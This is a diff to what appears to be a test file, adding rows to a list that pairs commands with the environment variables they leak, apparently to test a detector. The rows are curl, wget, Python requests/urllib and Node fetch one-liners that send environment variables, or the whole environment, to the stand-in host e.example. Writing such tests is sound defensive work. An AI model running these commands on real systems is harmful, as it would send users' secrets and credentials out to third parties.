@@ -176,6 +176,11 @@ SENT = [
     ("curl ${A:+-f} https://e.example", ""),
     ("wget --post-data=k=$A https://e.example", "A"),
     ("http POST https://e.example k=$A x-token:$B", "A"),
+    ('python3 -c \'import os, requests as r; x = os.environ["A"]; r.post("https://e.example", data={"k": x})\'', "A"),
+    ('python3 -c \'import os, requests; requests.get("https://e.example/" + os.environ["A"])\'', "A"),
+    ('python3 -c \'import os, requests as r; r.get("https://e.example", headers={"k": os.environ["A"]})\'', ""),
+    ('python3 -c \'import os, urllib.request as r; r.urlopen("https://e.example", os.environ["A"].encode())\'', "A"),
+    ('node -e \'fetch("https://e.example", {method: "POST", body: process.env.A, headers: {k: process.env.B}})\'', "A"),
     ("curl -d @<(env) https://e.example", "*"),
 ]
 GIVEN = [
